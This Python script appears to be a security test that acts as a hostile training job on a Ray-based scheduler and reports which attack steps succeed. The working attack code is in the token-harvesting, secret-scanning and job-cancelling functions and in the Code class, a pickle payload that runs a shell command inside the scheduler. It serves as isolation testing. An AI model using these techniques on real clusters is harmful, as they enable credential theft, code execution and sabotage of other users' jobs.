"""What a training script that is no friend tries, with nothing but what its process can reach.

    python attack.py STATE_DIR ADDRESS VICTIM MARK

It knows where the cluster keeps its state and listens, and which other job there is. A mark would show that its
code ran in the scheduler. It prints one line of JSON: the names of the steps that it has done.
"""

import json
import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from typing import Any

STEP_S = 60
SECRET = "".join(["hunt", "er2"])  # the value of a variable of the victim; this file does not hold it


def tokens(state: Path) -> list[str]:
    """Return every token that can be had: inherited, in the state folder, or named by another process."""
    paths = [os.environ.get("RAY_AUTH_TOKEN_PATH", ""), str(state / "token")]
    found = [os.environ["RAY_AUTH_TOKEN"]] if "RAY_AUTH_TOKEN" in os.environ else []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            variables = (folder / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        paths += [one.partition(b"=")[2].decode() for one in variables if one.startswith(b"RAY_AUTH_TOKEN_PATH=")]
    for path in dict.fromkeys(paths):
        try:
            found.append(Path(path).read_text().strip())
        except OSError:
            continue
    return found


def service(state: Path, address: str) -> tuple[Any, Any]:
    """Return the scheduler's actor."""
    for token in [*tokens(state), ""]:
        os.environ |= (
            {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token} if token else {"RAY_AUTH_MODE": "disabled"}
        )
        os.environ["RAY_USAGE_STATS_ENABLED"] = "0"
        import ray

        try:
            ray.init(address=address, namespace="coadapt", log_to_driver=False)
        except BaseException:
            continue
        return ray, ray.get_actor("coadapt-scheduler")
    raise SystemExit(1)


class Code:
    """Runs where it is unpickled."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"tr '\\0' ' ' < /proc/$PPID/cmdline > {self.mark}",)


def inherits(state: Path, address: str, victim: str, mark: str) -> bool:
    return any(name.startswith("RAY_AUTH_TOKEN") for name in os.environ)


def reads_token(state: Path, address: str, victim: str, mark: str) -> bool:
    return bool((state / "token").read_text())


def reads_store(state: Path, address: str, victim: str, mark: str) -> bool:
    return bool((state / "jobs.sqlite").read_bytes())


def lists(state: Path, address: str, victim: str, mark: str) -> bool:
    ray, actor = service(state, address)
    return any(row["id"] == victim for row in ray.get(actor.list.remote(), timeout=STEP_S))


def reads_environment(state: Path, address: str, victim: str, mark: str) -> bool:
    """Look for the victim's secret in what the scheduler says, in its files, and in processes."""
    files = [path for path in state.rglob("*") if path.is_file()] if os.access(state, os.R_OK | os.X_OK) else []
    for path in [*files, *Path("/proc").glob("[0-9]*/environ")]:
        try:
            if SECRET.encode() in path.read_bytes():
                return True
        except OSError:
            continue
    ray, actor = service(state, address)
    return SECRET in json.dumps(ray.get(actor.describe.remote(victim), timeout=STEP_S), default=str)


def kills(state: Path, address: str, victim: str, mark: str) -> bool:
    """Look whether a process of the scheduler may be sent a signal; none is sent."""
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if b"ray::" in (folder / "cmdline").read_bytes():
                os.kill(int(folder.name), 0)
                return True
        except OSError:
            continue
    return False


def runs_code(state: Path, address: str, victim: str, mark: str) -> bool:
    ray, actor = service(state, address)
    with suppress(Exception):  # an id that is none
        ray.get(actor.describe.remote(Code(mark)), timeout=STEP_S)
    return b"ray::" in Path(mark).read_bytes()


def cancels(state: Path, address: str, victim: str, mark: str) -> bool:
    ray, actor = service(state, address)
    return bool(ray.get(actor.cancel.remote(victim), timeout=STEP_S))


STEPS = {
    "inherits the token": inherits,
    "reads the token": reads_token,
    "reads the store": reads_store,
    "lists all jobs": lists,
    "reads their environment": reads_environment,
    "may end the scheduler": kills,
    "runs code in the scheduler": runs_code,
    "cancels another's job": cancels,
}


if __name__ == "__main__":
    if sys.argv[1] == "step":
        _, _, name, state, address, victim, mark = sys.argv
        sys.exit(0 if STEPS[name](Path(state), address, victim, mark) else 1)
    done = []
    for name in STEPS:  # each in a process of its own, as connecting to Ray may hang
        command = [sys.executable, os.path.abspath(__file__), "step", name, *sys.argv[1:]]
        try:
            told = subprocess.run(command, capture_output=True, timeout=2 * STEP_S, check=False)
        except subprocess.TimeoutExpired:
            continue
        if told.returncode == 0:
            done.append(name)
    print("ATTACK " + json.dumps(done), flush=True)
